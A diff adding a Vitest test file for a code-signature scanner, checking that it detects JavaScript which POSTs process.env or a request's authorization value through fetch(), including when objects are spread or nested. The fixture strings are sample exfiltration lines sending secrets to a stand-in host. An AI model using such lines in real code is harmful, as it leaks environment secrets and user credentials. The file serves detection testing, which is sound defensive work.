@@ -1,0 +1,46 @@
+import { fileURLToPath } from 'node:url';
+import { expect, it } from 'vitest';
+import { completeSet, loadSignatures, scanSignatures } from '../../../src/signatures/index.js';
+import { memoryTree } from '../../support/memory-tree.js';
+
+const signatures = completeSet(
+  await loadSignatures(fileURLToPath(new URL('../../../signatures', import.meta.url))),
+);
+
+async function rulesIn(code: string): Promise<string[]> {
+  const tree = memoryTree({ 'index.js': code });
+  const { findings } = await scanSignatures({ tree, packages: [], signatures });
+  return findings.map(({ rule }) => rule);
+}
+
+it.each([
+  ['a spread object', '{ at: 1, ...{ all: [Object.assign({}, process.env)] } }'],
+  [
+    'spread objects inside each other',
+    '{ a: { ...{ ...{ all: { env: Object.assign({}, process.env) } } } } }',
+  ],
+])('finds what %s holds', async (_, data) => {
+  const code = `fetch('https://c.example.invalid', { method: 'POST', body: JSON.stringify(${data}) });`;
+  expect(await rulesIn(code)).toContain('code/environment-sent');
+});
+
+it('finds a body among options that are spread', async () => {
+  const code = `exports.f = ({ headers: { authorization } }) => {
+    const body = { body: JSON.stringify({ authorization }) };
+    return fetch('https://c.example.invalid', { method: 'POST', ...body });
+  };`;
+  expect(await rulesIn(code)).toContain('code/request-credential-sent');
+});
+
+it('knows headers among options that are spread', async () => {
+  const code = `exports.f = ({ headers: { authorization } }) => {
+    const given = { headers: { authorization } };
+    return fetch('https://c.example.invalid', { method: 'POST', ...given });
+  };`;
+  expect(await rulesIn(code)).not.toContain('code/request-credential-sent');
+});
+
+it('ends where objects are spread in themselves', async () => {
+  const code = `let a = { x: 1 }; for (;;) { a = { ...a, b: { ...a } }; fetch('https://c.example.invalid', a); }`;
+  expect(await rulesIn(code)).not.toContain('code/environment-sent');
+});
